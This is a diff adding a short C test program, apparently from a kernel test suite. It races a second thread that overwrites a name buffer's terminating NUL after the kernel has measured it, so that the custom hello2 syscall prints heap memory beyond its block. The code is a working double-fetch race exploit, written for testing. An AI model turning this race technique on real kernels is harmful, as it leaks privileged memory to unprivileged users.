@@ -1,0 +1,50 @@
+/* SPDX-License-Identifier: MIT */
+/*
+ * race-strlen [CALLS]: makes the kernel print what lies behind a block of its
+ * heap.
+ *
+ * The name fills such a block to the last byte, which is its NUL. Once the
+ * kernel has found the NUL and measured the name by it, the adversary writes
+ * a letter there.
+ */
+#include <errno.h>
+#include <race.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <unistd.h>
+
+#define BLOCK 32 /* the smallest that the kernel's heap gives */
+
+static char name[BLOCK + 4];
+static struct hello2_in in = { name, BLOCK - 1, 7 };
+static struct hello2_out out;
+
+static void *adversary(void *unused)
+{
+	while (race_goes_on()) {
+		name[BLOCK - 1] = '!';
+		sched_yield();
+		name[BLOCK - 1] = '\0';
+	}
+	return NULL;
+}
+
+int main(int argc, char *argv[])
+{
+	unsigned int calls = argc > 1 ? strtoul(argv[1], NULL, 0) : 1;
+
+	memset(name, 'b', BLOCK - 1);
+	if (setuid(NOBODY) || race_begin(adversary)) {
+		perror("race-strlen");
+		return 2;
+	}
+	while (calls--) {
+		if (syscall(SYS_HELLO2, &in, &out) < 0)
+			printf("hello2: %s\n", strerror(errno));
+		else
+			printf("nr_calls %u\n", out.nr_calls);
+	}
+	race_end();
+	return 0;
+}
